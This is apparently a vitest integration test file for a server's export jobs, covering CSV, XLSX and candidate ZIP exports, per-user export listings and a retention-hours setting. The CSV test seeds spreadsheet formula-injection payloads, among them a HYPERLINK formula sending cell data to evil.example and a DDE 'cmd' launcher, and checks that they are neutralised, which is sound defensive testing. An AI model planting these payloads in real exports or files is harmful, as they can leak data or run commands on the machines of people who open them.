import ExcelJS from 'exceljs';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readEnvironment } from '../../packages/server/src/config';
import { createTestServer, type TestServer } from './helpers';

/**
 * Issue 32, what was left of exports as jobs (docs/jobs.md "Exports"): the format (`xlsx`, `csv`, and the
 * candidates' `zip` with their files), the caller's exports listed again for a screen reopened, and the
 * files' lifetime from EXPORT_RETENTION_HOURS.
 */

const RETENTION_HOURS = 2;
let server: TestServer;
let admin: string;
let otherAdmin: string;
let editor: string;

beforeAll(async () => {
  server = await createTestServer({ config: { exportRetentionHours: RETENTION_HOURS } });
  admin = await server.signIn('admin');
  otherAdmin = await server.signIn('admin');
  editor = await server.signIn('editor');
});
afterAll(async () => server?.close());

const call = (method: 'GET' | 'POST', url: string, payload?: object, cookie = admin) =>
  server.app.inject({ method, url, headers: { cookie }, ...(payload ? { payload } : {}) });

type Status = {
  id: string;
  collection: string;
  format: string;
  state: string;
  rowsWritten: number;
  rowsTotal: number | null;
  file: string | null;
  fileName: string;
  error: string;
  createdAt: string;
  expiresAt: string;
};

async function start(body: object, cookie = admin): Promise<Status> {
  const answer = await call('POST', '/api/exports', body, cookie);
  expect(answer.statusCode, answer.body).toBe(202);
  return answer.json().data as Status;
}

async function finished(id: string, cookie = admin): Promise<Status> {
  const deadline = Date.now() + 30_000;
  for (;;) {
    const status = (await call('GET', `/api/exports/${id}`, undefined, cookie)).json().data as Status;
    if (status.state === 'done' || status.state === 'failed') return status;
    if (Date.now() > deadline) throw new Error(`export ${id} still ${status.state}`);
    await new Promise((wait) => setTimeout(wait, 20));
  }
}

describe('export formats', () => {
  it('writes a .csv: a header, every row quoted, formulas neutralised, dates in UTC', async () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      "+cmd|' /C calc'!A0",
      '-2+3+cmd',
      '@SUM(1+1)',
      '\t=1+1',
    ];
    for (const [index, text] of hostile.entries()) {
      await server.db
        .insertInto('leads')
        .values({
          first_name: text,
          last_name: 'Doe',
          company_name: 'Acme, "Intl"',
          email: `csv${index}@example.com`,
          phone_number: '+212 600-000000',
          num_of_orders: '-5',
          countries_interested: 'Morocco',
          created_at: new Date(Date.UTC(2030, 0, 2, 3, 4, 5 + index)),
          updated_at: new Date(),
        })
        .execute();
    }
    const status = await finished((await start({ collection: 'leads', format: 'csv', all: true, q: 'csv' })).id);
    expect(status).toMatchObject({ state: 'done', format: 'csv', rowsWritten: 5, rowsTotal: 5 });
    expect(status.fileName).toMatch(/^LeadsContact-\d{4}-\d{2}-\d{2}\.csv$/);

    const file = await call('GET', status.file!);
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(file.headers['content-disposition']).toBe(`attachment; filename="${status.fileName}"`);
    const text = file.rawPayload.toString('utf8');
    // A byte-order mark, so Excel reads UTF-8; then the header with the screen's column names.
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const lines = text.slice(1).split('\n').filter(Boolean);
    expect(lines[0]).toBe(
      '"First Name","Last Name","Company Name","Email","Phone Number","Orders per Day","Countries Interested","Received"',
    );
    expect(lines.length).toBe(6);
    // Newest first; each hostile cell starts with an apostrophe inside its quotes; phone numbers and signed numbers stay.
    expect(lines[1]).toBe(
      `"'\t=1+1","Doe","Acme, ""Intl""","csv4@example.com","+212 600-000000","-5","Morocco","2030-01-02 03:04:09"`,
    );
    expect(lines[2]).toBe(
      `"'@SUM(1+1)","Doe","Acme, ""Intl""","csv3@example.com","+212 600-000000","-5","Morocco","2030-01-02 03:04:08"`,
    );
    expect(lines[3]).toBe(
      `"'-2+3+cmd","Doe","Acme, ""Intl""","csv2@example.com","+212 600-000000","-5","Morocco","2030-01-02 03:04:07"`,
    );
    expect(lines[4]).toBe(
      `"'+cmd|' /C calc'!A0","Doe","Acme, ""Intl""","csv1@example.com","+212 600-000000","-5","Morocco","2030-01-02 03:04:06"`,
    );
    expect(lines[5]).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")","Doe","Acme, ""Intl""","csv0@example.com","+212 600-000000","-5","Morocco","2030-01-02 03:04:05"`,
    );
  });

  it('writes the candidates’ .zip as a job: their sheet and every candidate’s files', async () => {
    const files = new Map<string, Buffer>();
    for (const index of [1, 2, 3]) {
      const resume = Buffer.from(`%PDF-1.4 resume of candidate ${index}\n%%EOF\n`);
      const resumeKey = (await server.storage.save({ data: resume, folder: 'candidates', ext: 'pdf', private: true }))
        .key;
      let portfolioKey = '';
      if (index === 2) {
        const portfolio = Buffer.from('%PDF-1.4 portfolio\n%%EOF\n');
        portfolioKey = (await server.storage.save({ data: portfolio, folder: 'candidates', ext: 'pdf', private: true }))
          .key;
        files.set('portfolio', portfolio);
      }
      files.set(`resume${index}`, resume);
      await server.db
        .insertInto('job_candidates')
        .values({
          job: 'Zip Tester',
          f_name: `Ada${index}`,
          l_name: 'Lovelace',
          email: `zip${index}@example.com`,
          phone: '+1 555 0100',
          resume_key: resumeKey,
          resume_name: `cv${index}.pdf`,
          portfolio_key: portfolioKey,
          portfolio_name: portfolioKey ? 'work.pdf' : '',
          cover_letter: `Letter ${index}`,
          created_at: new Date(Date.UTC(2030, 0, 1, 0, 0, index)),
          updated_at: new Date(),
        })
        .execute();
    }
    const started = await start({ collection: 'job-candidates', format: 'zip', all: true, q: 'Zip Tester' });
    expect(started).toMatchObject({ format: 'zip', state: 'queued' });
    const status = await finished(started.id);
    expect(status).toMatchObject({ state: 'done', rowsWritten: 3, rowsTotal: 3 });
    expect(status.fileName).toMatch(/^JobCandidates-\d{4}-\d{2}-\d{2}\.zip$/);

    const file = await call('GET', status.file!);
    expect(file.headers['content-type']).toBe('application/zip');
    const entries = unzipSync(new Uint8Array(file.rawPayload));
    const names = Object.keys(entries).sort();
    expect(names.filter((name) => name !== 'index.xlsx').map((name) => name.replace(/_[0-9a-f]{8}\//, '/'))).toEqual([
      'Ada1_Lovelace/resume_cv1.pdf',
      'Ada2_Lovelace/portfolio_work.pdf',
      'Ada2_Lovelace/resume_cv2.pdf',
      'Ada3_Lovelace/resume_cv3.pdf',
    ]);
    for (const index of [1, 2, 3])
      expect(Buffer.from(entries[names.find((name) => name.endsWith(`resume_cv${index}.pdf`))!])).toEqual(
        files.get(`resume${index}`),
      );
    expect(Buffer.from(entries[names.find((name) => name.endsWith('portfolio_work.pdf'))!])).toEqual(
      files.get('portfolio'),
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(entries['index.xlsx'] as never);
    const sheet = workbook.worksheets[0];
    expect(sheet.rowCount).toBe(4);
    expect(sheet.getRow(2).getCell(2).value).toBe('Ada3');
    expect(sheet.getRow(2).getCell(7).value).toBe('Letter 3');

    // The spec's direct download of the same zip still answers, built by the same code.
    const direct = await call('POST', '/api/getJobCandidateList', { all: true, q: 'Zip Tester' });
    expect(direct.statusCode).toBe(200);
    expect(Object.keys(unzipSync(new Uint8Array(direct.rawPayload))).sort()).toEqual(names);
  });

  it('refuses a format it does not know, and a zip of a collection without files, with a message', async () => {
    const before = await server.db.selectFrom('exports').select('id').execute();
    const pdf = await call('POST', '/api/exports', { collection: 'leads', all: true, format: 'pdf' });
    expect(pdf.statusCode).toBe(400);
    expect(pdf.json().message).toMatch(/format/);
    const zip = await call('POST', '/api/exports', { collection: 'newsletter', all: true, format: 'zip' });
    expect([zip.statusCode, zip.json().message]).toEqual([
      400,
      'format zip is only for job-candidates (their files); use xlsx or csv',
    ]);
    expect(await server.db.selectFrom('exports').select('id').execute()).toEqual(before);
  });
});

describe('the caller’s exports, listed again', () => {
  it('lists the caller’s own unexpired exports of a collection, newest first, and by state', async () => {
    await server.db.insertInto('newsletter_subscribers').values({ email: 'listed@example.com' }).execute();
    const first = await finished((await start({ collection: 'newsletter', all: true })).id);
    const second = await finished((await start({ collection: 'newsletter', format: 'csv', all: true })).id);
    const someoneElses = await finished(
      (await start({ collection: 'newsletter', all: true }, otherAdmin)).id,
      otherAdmin,
    );
    // One still running (as a screen left behind would find it), and one expired.
    const adminId = (
      await server.db.selectFrom('exports').select('created_by').where('id', '=', first.id).executeTakeFirstOrThrow()
    ).created_by;
    const running = '0b6f2d9e-1c3a-4e5f-8a7b-9c0d1e2f3a4b';
    const expired = '1c7f3e0a-2d4b-4f6a-9b8c-0d1e2f3a4b5c';
    await server.db
      .insertInto('exports')
      .values([
        {
          id: running,
          collection: 'newsletter',
          format: 'xlsx',
          selection: JSON.stringify({ matching: null }),
          rows_written: 3000,
          rows_total: 9000,
          file_name: 'Newsletter.xlsx',
          created_by: adminId,
          expires_at: new Date(Date.now() + 3_600_000),
        },
        {
          id: expired,
          collection: 'newsletter',
          format: 'xlsx',
          selection: JSON.stringify({ matching: null }),
          file_name: 'Newsletter.xlsx',
          created_by: adminId,
          created_at: new Date(Date.now() - 3 * 3_600_000),
          expires_at: new Date(Date.now() - 1000),
        },
      ])
      .execute();
    // (No job runs them: they are rows as a job would have left them.)
    await server.db.updateTable('exports').set({ state: 'running' }).where('id', '=', running).execute();
    await server.db.updateTable('exports').set({ state: 'done' }).where('id', '=', expired).execute();

    const listed = await call('GET', '/api/exports?collection=newsletter');
    expect(listed.statusCode, listed.body).toBe(200);
    const ids = (listed.json().data as Status[]).map((status) => status.id);
    expect(ids).toEqual([running, second.id, first.id]);
    expect(ids).not.toContain(someoneElses.id);

    const runningOnly = (await call('GET', '/api/exports?collection=newsletter&state=running')).json().data as Status[];
    expect(runningOnly).toEqual([
      expect.objectContaining({ id: running, state: 'running', rowsWritten: 3000, rowsTotal: 9000, file: null }),
    ]);
    const done = (await call('GET', '/api/exports?state=done')).json().data as Status[];
    expect(done.map((status) => [status.id, status.format])).toEqual(
      expect.arrayContaining([
        [second.id, 'csv'],
        [first.id, 'xlsx'],
      ]),
    );
    expect(done.every((status) => status.state === 'done')).toBe(true);
    expect((await call('GET', '/api/exports?collection=leads&state=running')).json().data as Status[]).toEqual([]);

    expect((await call('GET', '/api/exports?collection=newsletter', undefined, editor)).statusCode).toBe(403);
    for (const query of ['state=stuck', 'collection=users']) {
      const refused = await call('GET', `/api/exports?${query}`);
      expect([query, refused.statusCode]).toEqual([query, 400]);
      expect(refused.json().message).toEqual(expect.any(String));
    }
  });
});

describe('EXPORT_RETENTION_HOURS', () => {
  it('sets how long an export can be downloaded', async () => {
    const status = await start({ collection: 'newsletter', all: true });
    expect(Date.parse(status.expiresAt) - Date.parse(status.createdAt)).toBeCloseTo(RETENTION_HOURS * 3_600_000, -4);
    await finished(status.id);
  });

  it('is 24 hours unless set, and a value that is not a positive whole number stops the start with a clear message', () => {
    expect(readEnvironment({}, '/srv').exportRetentionHours).toBe(24);
    expect(readEnvironment({ EXPORT_RETENTION_HOURS: ' 72 ' }, '/srv').exportRetentionHours).toBe(72);
    for (const value of ['0', '-1', '1.5', 'a day']) {
      expect(() => readEnvironment({ EXPORT_RETENTION_HOURS: value }, '/srv')).toThrow(
        `EXPORT_RETENTION_HOURS must be a positive whole number (got "${value}")`,
      );
    }
  });
});
